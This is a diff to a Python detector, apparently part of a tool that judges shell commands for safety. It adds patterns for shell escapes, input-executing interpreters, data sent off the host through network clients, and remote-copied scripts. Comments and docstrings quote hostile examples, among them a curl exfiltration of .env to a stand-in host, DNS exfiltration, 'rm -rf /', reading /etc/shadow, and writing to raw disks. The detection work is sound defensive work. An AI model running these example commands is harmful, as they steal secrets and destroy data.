@@ -14,6 +14,7 @@
 from __future__ import annotations
 
 import functools
+import itertools
 import os
 import re
 import shlex
@@ -23,21 +24,27 @@ from typing import TYPE_CHECKING
 
 from ._args import split_args
 from ._findings import MAX_VALUES, Context, Finding
-from ._names import DEFAULT_SPEC
+from ._names import DEFAULT_SPEC, DOWNLOADERS, REMOTE
 from ._paths import path_candidates
 from ._regex_cache import lazy
-from ._words import DYN, Word, literal
+from ._words import DYN, SimpleCommand, Word, literal
 
 if TYPE_CHECKING:
     from ._judge import Judge
 
-_PATHS_IN = lazy(r"(?<![\w.~/-])(?:file://(?:localhost)?)?((?:~/|/)[^\s'\"`;|&<>(){}$,=:!*?\[\]]*)")
+_PATHS_IN = lazy(r"(?<![\w.~/*?\]-])(?:file://(?:localhost)?)?((?:~/|/)[^\s'\"`;|&<>(){}$,=:!*?\[\]]*)")
 """Absolute or ``~`` paths inside a longer word (an option value, a URL, a quoted script)."""
 _SECRET_CLASSES = frozenset({"secret", "protected", "network", "device"})
 _WRITE_CLASSES = frozenset({"critical", "system", "sysdata", "top", "root", "holder", "traces", "switch", "secret", "protected",
                             "device"})
 _CODE = (
-    (lazy(r"(?:^|=)\s*!(.+)", re.S), "!"),
+    (lazy(r"(?:^|=)\s*:?!(.+)", re.S), "!"),
+    (lazy(r"^\s*(?:shell|system|\\!)\s+(.+)", re.S), "shell escape"),
+    (lazy(r"\bto\s+program\s+'((?:[^']|'')+)'", re.S | re.I), "COPY TO PROGRAM"),
+    (lazy(r"\((?:system|shell-command|async-shell-command|call-process-shell-command|shell-command-to-string)\s+"
+          r"\"((?:[^\"\\]|\\.)+)\""), "(system …)"),
+    (lazy(r"\b(?:sendmail|editor|pager|shell|display_filter|print_command|query_command)\s*=\s*[\"']([^\"']+)[\"']"),
+     "set command"),
     (lazy(r"^\s*(?:\\!|\.(?:shell|system))\s+(.+)", re.S), "shell escape"),
     (lazy(r"\b(?:os\.)?(?:system|popen|exec[lv]?p?e?|spawn\w*|execute|run|shell_exec|passthru|proc_open|"
                 r"syscmd|esyscmd|Popen|check_output|check_call|call)\s*\(\s*['\"]([^'\"]+)['\"]", re.S), "call"),
@@ -48,7 +55,7 @@ _CODE = (
     (lazy(r"%\((?!\w+\)[sdifrxXeEgGcoaT%])([^()]+)\)"), "%()"),
     (lazy(r"`([^`]+)`"), "backticks"),
 )
-_CODE_HINT = lazy(r"\b(?:system|popen|exec[lv]?p?e?|spawn\w*|shell_exec|passthru|proc_open|esyscmd|syscmd|"
+_CODE_HINT = lazy(r"\bload_extension\s*\(|^\s*\.load\s|\b(?:system|popen|exec[lv]?p?e?|spawn\w*|shell_exec|passthru|proc_open|esyscmd|syscmd|"
                         r"os\.execute|io\.popen|Runtime\.getRuntime|child_process|subprocess|__import__)\s*\(|"
                         r"\$[({]shell\s|\\write18|%x[({\[]")
 _PROGRAM_OPTION = lazy(r"prog|command|cmd|exec|shell|editor|pager|helper|hook|filter|viewer|browser|"
@@ -71,21 +78,25 @@ _NOT_PROGRAMS = frozenset({"test", "install", "true", "false", "yes", "echo", "p
                            "top", "look", "watch", "w", "last", "users", "more", "diff", "dir", "vdir"})
 """Words that are programs on PATH but much more often a subcommand (``cargo test --release``)."""
 _CODE_VARS = lazy(r"^(?:[A-Z0-9_]*_)?(?:COMMAND|CMD|EDITOR|VISUAL|PAGER|PROGRAM|EXEC|ASKPASS|SHELL|HOOK|VIEWER|"
-                        r"BROWSER|INTERPRETER|HELPER|TERMINAL)$")
-"""Environment variables whose value a program runs (``PAGER=``, ``GIT_SSH_COMMAND=``, ``FOO_CMD=``)."""
+                        r"BROWSER|INTERPRETER|HELPER|TERMINAL)$|^GIT_CONFIG_VALUE_\d+$")
+"""Environment variables whose value a program runs (``PAGER=``, ``GIT_SSH_COMMAND=``, ``FOO_CMD=``; a
+``GIT_CONFIG_VALUE_n`` may set ``core.pager`` or an alias)."""
 
 
 def secrets(judge: Judge, name: str, words: Sequence[Word], ctx: Context, *, foreign: bool = False) -> None:
     """A secret (or the daemon's own files, a raw device) named anywhere in ``words`` is read
     (``foreign``: only those outside the user's own home, for programs made to handle keys)."""
     own = judge.paths.home.rstrip("/") + "/"
+    moved = ctx.cwd is not None and ctx.cwd != judge.paths.workspace
     for w in words:
-        if w.dynamic:
-            continue
+        if w.dynamic and not w.value.startswith(("/", "~/")):
+            continue  # (/proc/$(pgrep sshd)/environ still names a secret: the run-time part is any name)
         for v in w.values[:MAX_VALUES]:
             cands = path_candidates(v) + _PATHS_IN.findall(v)
             if v.startswith("-") and not v.startswith("--") and len(v) > 2:
                 cands += _glued(v)  # -kPATH, -yfPATH: short options with a value glued on
+            elif moved and v and "/" not in v and not v.startswith(("-", "@")) and "=" not in v:
+                cands.append(v)  # `cd /etc && cat shadow`: a bare name is a file where the line went
             for cand in cands:
                 cls = judge.paths.classify(cand, ctx.cwd, False, w.glob)[0]
                 if foreign and (judge.paths.abspath(cand, ctx.cwd) or own).startswith(own):
@@ -107,6 +118,27 @@ def stdin_escapes(judge: Judge, name: str, text: str, ctx: Context, depth: int) 
         m = _STDIN_ESCAPE.match(raw)
         if m is not None and DYN not in m.group(1):
             judge.line(m.group(1), ctx, depth + 1, origin=f"{name} reading stdin")
+
+
+_RUNS_INPUT = lazy(r"\b(?:system|exec|popen|qx)\s*\(?\s*(?:\$0|\$_|\$LINE|line|\$l)\s*\)?|`\$_`|"
+                   r"\bprint\s*(?:\$0)?\s*\|\s*\"(?:/bin/)?(?:ba|da)?sh\"")
+"""Code that runs each input line as a command: awk ``system($0)``, perl ``system($_)``, ``print | "sh"``."""
+
+
+def input_commands(judge: Judge, name: str, code: str, cmd: SimpleCommand, ctx: Context, depth: int) -> None:
+    """``awk '{system($0)}' <<< 'rm -rf /'``: interpreter code that runs every input line as a
+    command, fed literal text: each line is judged as a command line."""
+    st = cmd.stdin
+    if st is None or not _RUNS_INPUT.search(code):
+        return
+    from ._shells import pipe_text  # (here: _shells imports this module)
+
+    text = st.text if st.kind == "text" else pipe_text(judge, st.source, 0)
+    if text is None or st.dynamic or DYN in text:
+        return
+    for line in text.split("\n")[: MAX_VALUES * 4]:
+        if line.strip():
+            judge.line(line, ctx, depth + 1, origin=f"{name} running its input")
 
 
 def code_values(judge: Judge, name: str, words: Sequence[Word], ctx: Context, depth: int) -> None:
@@ -133,6 +165,23 @@ def code_values(judge: Judge, name: str, words: Sequence[Word], ctx: Context, de
             return
 
 
+def guessed_options(args: Sequence[Word]) -> frozenset[str]:
+    """Options of a program without an entry that take the next word as their value because
+    their name says it is a program (``--interpreter /usr/bin/python3``, ``--rsh /bin/sh``,
+    ``-e sh``: judged as a program to run, not as a file the program writes) or where output
+    goes (``--output /dev/sdb``: written)."""
+    out = set()
+    for k, w in enumerate(args[:-1]):
+        v = w.value
+        nxt = args[k + 1].value
+        if ((v.startswith("--") and "=" not in v) or v == "-e") and _PROGRAM_OPTION.search(v) and not nxt.startswith("-"):
+            out.add(v)
+        elif ((v.startswith("--") and "=" not in v) or v in ("-o", "-O")) and _OUTPUT_OPTION.search(v) \
+                and nxt.startswith(("/", "~/", "./")):
+            out.add(v)  # `--output /dev/sdb`, `--log-file /etc/cron.d/x`: where the program writes
+    return frozenset(out)
+
+
 def programs(judge: Judge, name: str, operands: Sequence[Word], values: Sequence[tuple[str, Word]], ctx: Context,
              depth: int, *, readonly: bool) -> None:
     """Words that name a program to run make ``name`` a wrapper for it: judged, and confirmed.
@@ -150,7 +199,8 @@ def programs(judge: Judge, name: str, operands: Sequence[Word], values: Sequence
         parts = w.value.split()
         if not parts:
             continue
-        named = bool(_PROGRAM_OPTION.search(opt))
+        # (`-e` names a program only for a program without an entry: grep -e, sed -e are expressions)
+        named = bool(_PROGRAM_OPTION.search(opt)) and not (opt == "-e" and judge.rules.command(name) is not None)
         if named and _names_a_program(w.value, ctx.cwd, judge) and not _is_program(parts[0], ctx.cwd, judge,
                                                                                    standalone=False):
             # `--browser=/usr/bin/firefox` names a program to run even where it is not installed.
@@ -174,12 +224,44 @@ def programs(judge: Judge, name: str, operands: Sequence[Word], values: Sequence
             return
 
 
+_OUTPUT_OPTION = lazy(r"out|log|dump|save|write|dest|target|file|^-[oOwf]$", re.I)
+"""Option names whose value is a file the program writes (``--output``, ``--log-file``, ``-o``)."""
+_BIN_DIR = lazy(r"^(?:/usr)?(?:/local)?/s?bin/[^/]+$|/libexec/")
+"""A program's place even when it is not installed here (``chsh -s /usr/bin/zsh``)."""
+
+
+def option_programs(judge: Judge, args: Sequence[Word], ctx: Context) -> set[int]:
+    """Words of a program without an entry that name an installed program right after one of
+    its options (``useradd -s /bin/bash``, ``frob --on-done /bin/sh``): that option's value, a
+    program to run or record, not a file the program writes (unless the option says output)."""
+    out: set[int] = set()
+    for prev, w in itertools.pairwise(args):
+        p = prev.value
+        if (p.startswith("-") and "=" not in p and not prev.dynamic and not _OUTPUT_OPTION.search(p)
+                and "/" in w.value and not w.dynamic and (_is_program(w.value, ctx.cwd, judge, standalone=True)
+                                                          or (_BIN_DIR.search(w.value) and (
+                                                              p in ("-s", "--shell") or _PROGRAM_OPTION.search(p))))):
+            out.add(id(w))
+    return out
+
+
+def output_devices(judge: Judge, name: str, values: Sequence[tuple[str, Word]], ctx: Context) -> None:
+    """``frob --output=/dev/sda``, ``--log /dev/nvme0n1``: an option that names where output goes,
+    given a disk, writes over that disk (whatever rules.toml knows of the program)."""
+    for o, w in values:
+        if _OUTPUT_OPTION.search(o) and not w.dynamic and \
+                judge.paths.classify(w.value, ctx.cwd, False, w.glob)[0] == "device":
+            judge.effect("write", w, ctx, name, option=f" with {o}")
+            return
+
+
 def writes(judge: Judge, name: str, operands: Sequence[Word], values: Sequence[tuple[str, Word]],
            clusters: Sequence[Word], ctx: Context) -> None:
     """A program without an entry that names a system or critical file is taken to write it
     (``-o/etc/fstab`` too: a short option with its value glued on). A program an option names
     to run (``--helper=/usr/bin/python3``) is not written: :func:`programs` confirms it."""
-    words = [w for o, w in values if not (_PROGRAM_OPTION.search(o) and _names_a_program(w.value, ctx.cwd, judge))]
+    words = [w for o, w in values if not ((_PROGRAM_OPTION.search(o) or not _OUTPUT_OPTION.search(o))
+                                          and _names_a_program(w.value, ctx.cwd, judge) and "/" in w.value)]
     for w in (*words, *operands, *clusters):
         if w.dynamic:
             continue
@@ -278,3 +360,43 @@ def _quote(word: str) -> str:
 
 def _short(text: str) -> str:
     return text if len(text) <= 60 else text[:57] + "..."
+
+
+_NET_CLIENTS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "whois", "traceroute", "tracepath",
+                          "openssl", "ssh", "telnet", "mtr", "arping", "nping", "hping3"})
+_RUN_TIME_TEXT = lazy(r"\$\(|`|<\(")
+
+
+def sends_output(judge: Judge, name: str, args: Sequence[Word], cmd: SimpleCommand | None, ctx: Context) -> None:
+    """``curl "https://x/?d=$(base64 .env)"``, ``dig $(…).x.example``, ``ping -p $(xxd …)``: a network
+    client whose words are built by a command at run time carries that command's output off the host;
+    ``openssl s_client … < file`` (or fed by a pipe) carries the file."""
+    if name not in _NET_CLIENTS and name not in DOWNLOADERS:
+        return
+    if name == "openssl" and cmd is not None and any(w.value in ("s_client", "s_time") for w in args):
+        fed = (cmd.stdin is not None and cmd.stdin.kind == "pipe") or any(
+            r.op == "<" and r.target is not None and r.target.value != "/dev/null" for r in cmd.redirects)
+        if fed:
+            ctx.add(Finding("confirm", "net.send-tls", "sending data off the host: openssl s_client sends what its "
+                            "standard input holds", frozenset({"system"})))
+            return
+    for w in args:
+        if w.dynamic and _RUN_TIME_TEXT.search(w.text):
+            ctx.add(Finding("confirm", "net.send-substitution", f"sending data off the host: {name} sends text a "
+                            f"command writes when the line runs ({_short(w.text)})", frozenset({"system"})))
+            return
+
+
+def remote_copies(judge: Judge, name: str, operands: Sequence[Word], ctx: Context) -> None:
+    """``scp host:/tmp/x.sh . && sh x.sh``: files copied here from another machine are downloads;
+    running one later in the line runs code from the network."""
+    if name not in ("scp", "rsync") or len(operands) < 2 or any(w.dynamic for w in operands):
+        return
+    *sources, dest = (w.value for w in operands)
+    if not any(REMOTE.match(v) and not v.startswith(("/", "~", ".")) for v in sources) or REMOTE.match(dest):
+        return
+    path = judge.paths.abspath(dest, ctx.cwd)
+    if path is not None:
+        into = dest.endswith("/") or dest in (".", "..") or os.path.isdir(path) or len(sources) > 1
+        ctx.files[path.rstrip("/") + "/" if into else path] = None
+
